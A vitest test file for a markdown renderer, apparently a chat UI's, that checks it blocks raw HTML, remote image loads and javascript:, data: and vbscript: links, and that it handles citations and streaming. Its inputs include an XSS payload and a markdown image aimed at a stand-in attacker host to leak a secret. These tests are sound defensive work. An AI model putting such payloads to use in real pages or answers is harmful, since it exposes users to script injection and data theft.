import { beforeEach, expect, test } from 'vitest'
import { renderMarkdown, splitFinished } from '@/components/markdown'
import { setLocale } from '@/locale'

beforeEach(() => setLocale('en'))

test('raw HTML is shown, not run', () => {
  expect(renderMarkdown('<img src=x onerror=alert(1)>')).not.toContain('<img')
})

test('an image is not fetched', () => {
  expect(renderMarkdown('![chart](https://evil.example/pixel.png?q=secret)')).not.toContain('<img')
})

test.each(['javascript:alert(1)', 'data:text/html,hi', '/api/v1/auth/logout', 'vbscript:x'])('%s is no link', (url) => {
  expect(renderMarkdown(`[click](${url})`)).not.toContain('<a ')
})

test('a link says where it leads and opens apart', () => {
  const html = renderMarkdown('[the form](https://hr.example/form)')

  expect(html).toContain('rel="noopener noreferrer"')
  expect(html).toContain('(hr.example)')
})

test.each(['[1]', '【1】', '[ 1 ]'])('%s cites source 1', (citation) => {
  expect(renderMarkdown(`Five days. ${citation}`)).toContain('data-n="1"')
})

test('one pair of brackets can cite several sources', () => {
  const html = renderMarkdown('Five days [1, 2].')

  expect(html.match(/data-n="\d"/g)).toEqual(['data-n="1"', 'data-n="2"'])
})

test('a link with a number for its text stays a link', () => {
  expect(renderMarkdown('[1](https://hr.example)')).not.toContain('citation')
})

test('only what follows the last blank line may still change', () => {
  expect(splitFinished('One.\n\nTwo.\n\nThr')).toEqual(['One.\n\nTwo.\n\n', 'Thr'])
})

test('an open code block is not finished, blank lines or not', () => {
  expect(splitFinished('Code:\n\n```\na\n\nb')).toEqual(['', 'Code:\n\n```\na\n\nb'])
})
